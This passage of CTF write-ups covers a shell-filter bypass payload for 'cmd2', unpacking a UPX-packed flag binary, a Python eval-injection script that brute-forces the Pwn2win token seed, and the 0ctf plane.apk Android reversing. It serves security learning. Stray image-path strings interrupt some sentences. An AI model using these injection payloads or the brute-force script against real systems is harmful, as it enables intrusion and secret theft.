set \$(eval echo \$1); echo \${1%no_command_execution_until_you_become_a_hacker}) b i n \$(set
\$(printf '%c%c%c%c%c' \$ P A T H); set \$(eval echo \$1); echo
\${1%no_command_execution_until_you_become_a_hacker})c a t . \$(set \$(printf '%c%c%c%c%c' \$
P A T H); set \$(eval echo \$1); echo \${1%no_command_execution_until_you_become_a_hacker}) f l
a g)"

There's a much simpler, almost cheating solution to this challenge as well. Read the man page for sh built-in to understand it :).

$ ./cmd2 command -p cat flag

There's also a medium difficulty solution that somebody showed me, but I leave that as an open problem for the


$ wget$ objdump -d flag

Returns nothing. Strange.

$ chmod +x flag; ./flag
I will malloc() and strcpy the flag there. take it.

Test that string as being the answer. Wrong - that'd have been too easy.
Okay so it does actually do something and is an executable.

Why would objdump fail? If it's a malformed binary is the only reason. That only happens due to some sort of corruption, most often man-made, in things like malware. Malware is often obfuscated to make diassembly and detection harder. It's actually a very difficult problem to figure out how something is packed, and to then reverse it. Luckily most malware authors, and people in general use popular tools at defaultsettings. UPX is the most popular packer, and the default setting leaves the string "UPX" in the binary.

$ strings flag
$Info: This file is packed with the UPX executable packer $
$Id: UPX 3.08 Copyright (C) 1996-2011 the UPX Team. All Rights Reserved. $

Nice! It's UPX. Let's download a UPX unpacker.

$ upx -d flag

And now to debug the unpacked binary.

$ gdb flag
$ b main
$ r
   0x401163 <frame_dummy+67>:    nop
   0x401164 <main>:    push   rbp
   0x401165 <main+1>:    mov    rbp,rsp
=> 0x401168 <main+4>:    sub    rsp,0x10
   0x40116c <main+8>:    mov    edi,0x496658
   0x401171 <main+13>:    call   0x402080 <puts>
   0x401176 <main+18>:    mov    edi,0x64
   0x40117b <main+23>:    call   0x4099d0 <malloc>

Nice, a strcpy and malloc as promised when the program was executed.

# Inside of gdb:
$ n; n; n; n; n; n
=> 0x401184 <main+32>:    mov    rdx,QWORD PTR [rip+0x2c0ee5]        # 0x6c2070 <flag>

Oh, the flag is just in 0x6c2070

$ telescope 0x6c2070
0000| 0x6c2070 --> 0x496628 ("UPX...? sounds like a delivery service :)")

Get upx, and peda (the telescope command inside of gdb) from my sec-tools.

Pwn2win 2016 - Python Tokens Writeup

This was a fun little challenge that was primarily thinking (esoteric mostly), reversing, and Python based. The security, orprogramming expertise is minimal for this one, it's mostly puzzle solving.

Points: 50
Category: Python Exploitation

We discovered a Club’s “homemade” token generator system which uses a fixed value as a seed (is it a joke?). Some Club systems use this token scheme, so we need to make a leak in order to compromise them. Due to a week-long effort, our hardcore newbie SkyMex was able to obtain the token generator source code from a private git repository before it received the official seed.

Submit the flag in the format: CTF-BR{seed}.

We're given a Python file,, and a general description of what the file probably is. It's a token generator system, meaning it's supposed to give 1 time credentials, that are usually seeded from random data. But, this one is apparently using a constant seed, and our mission is to get that seed.

The algorithm of the token generator is summarized here in pseudo-python.

seed = "???"
while True:
    userinput = input()
    cmd, serialnum = userinput.split()
    if !validate(userinput):
    serialnum = eval(serialnum) # Why???
    if serialnum is int and len(serialnum) == 4:
        token = gentoken(serialnum, seed, date)

The key points of the code are the validation() function, the use of eval, and then the gentoken() function. We already have arbitrary (for the most part) code execution with the eval. But we're facing four challenges:

  1. eval in Python, must be fed an input, that will return a value, and not simply 'do'. Meaning, something like 3+3 can be eval'd, whereas print "Hi mom!" cannot be eval'd - an exception will be thrown.2. validate() must successfully return, so we any input we give to the token generator, has to pass the validation which forbids certain characters such, |, and ".
  3. There's also the hidden challenge that after the input() a split() happens. That means if we want to sneak in any python code that's longer than 1 word, we're going to have to do it without spaces like ninjas.
  4. We have to somehow get the seed variable out of the system without breaking (1), (2), and (3).

So how can we get the seed out? We can't simply do a print, because our input would fail (1). However, let's recall how the token is generated, a token essentially mixes together a username (serial number), a randomly generated seed, and a timestamp into a single one time use password. However, this token generator is missing the crucial step of the randomly generated seed, and instead it's a constant. So, the only thing that's actually changing when the token is generated is the timestamp. You cannot rely simply on a timestamp for randomization, because it's predictable and not fine grain enough (meaning, you can only get millisecond precision).

So we can reverse engineer the gentoken() function and figure out how 1ms increases in time change the key, or we can just send as many requests as we can in the 1ms window to the token generator with the same serial number, and get back the same token. However, the token returned will be different for 2 different serial numbers given to it in the same timestamp, awesome!

We can be smart, or we can simply just guess every possible letter for every character in theseed string.

if seed[i] == guess:
    return 2017
    return 1000

So we have to fit that construct somehow into the input(), without breaking (1), (2), and (3) from above. I set up a test bench for this to figure out what exactly can I fit into a string that'll still pass.

# This validation() is copy pasted from given to us
def validation(input):
    err = int()
    input = str(input)
    # 3,4,6,8,9,-,/,*,%,<,>, and bunch more banned
    nochrs = [34,60,62,33,64,35,36,37,94,38,42,45,47,51,52,54,56,57,63,92,96,124,59,123,125]
    for i in input:
        if ord(i) in nochrs:
            err = 1
            err = 0
    if not err: return 1
    else: return 0

# This function is used to just test for what successfully gets past (1) and (2)
def test_seed():
    seed = "flag{}"
    cmd = "gen"
    tmp = eval("{cmd:eval('''2017.if.seed[2].==.'{}'.else.1000'''.replace('.',chr(0x20)))}")
    if validation("eval('''2017.if.seed[2].==.'{}'.else.1000'''.replace('.',chr(0x20)))"):
    if (type(tmp.values()[0])) == int:
        print("yes int")
    if len(str(tmp.values()[0])) == 4:Awesome, we found a string that passes validation, and outputs 2 different values based on what seed actually is. There is however one extra little pain here. If you look at the list of banned characters in validation, you'll notice that the ASCII representation of the numbers, 3, 4, 6, and some others are banned. That means we can't pass a string that indexes directly into seed[2], or seed[4], and so on. We also cannot test if the valid guess for the seed index is a '3', or a '4', and so on. Lucky for us, the ASCII representation of '1' is not banned, so we can simply just add a bunch of 1's to form the actual value we want.

from datetime import datetime
from socket import *
import telnetlib, struct

s=socket(AF_INET, SOCK_STREAM)
s.connect(('', 6037))
t = telnetlib.Telnet()
t.sock = s

for i in range(0,60):
    for x in range(20, 128):
        # Fun little hack to get in arbitrary numbers due to some characters being banned
        x = "1+"*x
        x = x.rstrip("+")
        index = "1+"*i
        index = index.rstrip("+")
        if i == 0:
            index = '0'

        # Let's take a guess of what seed[i] might be
        guess = "gen eval('''2017.if.seed[{}].==.chr({}).else.1000'''.replace('.',chr(0x20)))".format(index, x)

        # Did we guess right?!
        r = t.read_until(">>>")
        # This number is the different one if you give a serial number of 2017 instead of 1000
        if '47872900' in r:
            print(i, chr(eval(x)))

And you end upwith several of these:

(0, 'J')

Token: 47872897
Valid until: 1:1:59
(3, '5')

Token: 47872897

I believe there's an unintentional bug, or something in the code as well, because we shouldn't be able to send and receive ~40 requests in 1ms across the Internet. It seems that the token generator is a bit broken and doesn't even change for every millisecond increase.

Also in my solution there actually an off by one error (I just guessed and fixed it up), so you'll end up with the string: Jf{5pvg:cbi4QvohpPtibf:fjijfhi4jftfFovHi, which is the answer + 1 to each character, where the real one is:


0ctf 2016 Boomshakalaka (plane) Writeup

boomshakalaka (plane)play the game, get the highest score


This was an Android reverse engineering challenge. We're given an apk, plane.apk. First thing to do is check out the apk by launching an emulator, or usingyour phone. I do some Android development right now, so I already had a couple of Android VMs ready made in Android Studio.

$ adb devices
List of devices attached
emulator-5556    device
$ adb install plane.apk # Note: The emulator must have an ARM ABI, not x86 for this apk

Turns out it's a pretty fun game! Nothing really sticks out from a security and puzzle perspective.
Well, let's take a look into the source code. We're given an apk file, which is just a fancy Android jar, and a jar file is just a fancy Java zip file, so all the contents that form the app are contained inside the apk and just need to be unpacked. We can either unpack the dex files (fancy Android .class files), or smali assembly. I did the latter first, by using the tool, apktool.

$ apktool d plane.apk
$ ls
AndroidManifest.xml  apktool.yml  assets  lib  original  res  smali
$ ls smali/com/example/plane/
a.smali  BuildConfig.smali  FirstTest.smali  R$attr.smali  R$drawable.smali  R.smali  R$string.smali

We have every file inside of the apk, you can browse around the directories and figure out how the application works. The interesting parts are in a.smali, and FirstTest.smali. The first thing you'll notice is the base64 string: const-string v0, "YmF6aW5nYWFhYQ==", decoded to: "bazingaaaa" - funny. Without diving into how to read Java bytecode, it looks like the programs don'treally do too much interesting except set some shared preferences (persistent global variables), put some weird strings (DATA, N0, and MG) into them, and call the init functions. There's no actual game logic anywhere though - it must be implemented elsewhere. Looking back into the directories that apktool told us, we can find lib/armeabi/ So the actual logic and everything for the game must be written in "native code" inside of the We have to take a peak at the code inside of that compiled native binary... but before that, let's backtrack and make sure we understand the Java side of the code.

I know of a couple more tool for decompiling and reversing Android programs, dex2jar and jd-gui. All these great tools used are included in my sec-tools collection.

$ dex2jar plane.apk
dex2jar plane.apk -> ./plane-dex2jar.jar
$ jdgui plane-dex2jar.jar

Produces us these decompiled Java files: and Pretty much what we understood in the earlier smali files, but much clearer. This is a good technique to keep in mind when reversing future Android apps.

Back to the, let's look for those strings we saw on the Java side of the app, specifically DATA (that's a juicy one).

IDA Strings

Interesting other strings near it.

IDA Cross ReferencessetStringForKey from cocos2d seems to use this string in some sort of way. Looking up what the function does leads me to cocos2d reference manual. It looks like the function sets a key to be equal to a string. This sounds like persistent memory storage, for things like the game score!Remember the description of this challenge... our goal is to get the highest score. Remembering my teenage years, I used to cheat in some games that stored things like the game score in a simple text file. I wonder if we can do the same thing here, and just change some number stored in a text file, get the highest score, and get our flag.

Let's do that.

$ adb shell
$ cd /data/data/com.example.plane/shared_prefs
$ cat Cocos2dxPrefsFile.xml
<?xml version='1.0' encoding='utf-8' standalone='yes' ?>
    <int name="HighestScore" value="14000" />
    <stringname="DATA">MGN0ZntDMGNvUzJkX0FuRHJvdz99ZntDMGNvUzJkX0FuRHJvMWRzdz99ZntDMGNvUzJkX0FuRHJvRfdz99ZntDMGNvUzJkX0FuRHJvMWRzdz99ZntDMGNvUzJkX0FuRHJvMWdz99ZntDMGNvUzJkX0FuRHJvRfRz</string>
    <boolean name="isHaveSaveFileXml" value="true" />
$ echo 'MGN0ZntDMGNvUzJkX0FuRHJvdz99ZntDMGNvUzJkX0FuRHJvMWRzdz99ZntDMGNvUzJkX0FuRHJvRfdz99ZntDMGNvUzJkX0FuRHJvMWRzdz99ZntDMGNvUzJkX0FuRHJvMWdz99ZntDMGNvUzJkX0FuRHJvRfRz' | base64 --decode

Trying out, 0ctf{C0coS2d_AnDrow?} won't do us any good, it's not the flag. I tried a bunch of combinations such as 0ctf{0ctf{C0coS2d_AnDro1d?} as well, it's none of that. Okay. Let's think. We seem to have a repeating pattern in the base64. Some examination of the base64 compared to the ASCII output reveals that MGN0 is actually '0ct', and ZntD is 'f{C', and dz99 is 'w?}', and some stuff inbetween. It looks like we have to use the pieces of data we saw inthe .so binary to form some sort ofbase64 that'll decode into the flag. Editing the HighestScore value to 1000000 and playing the game, and then checking back the xml file doesn't seem to do anything.

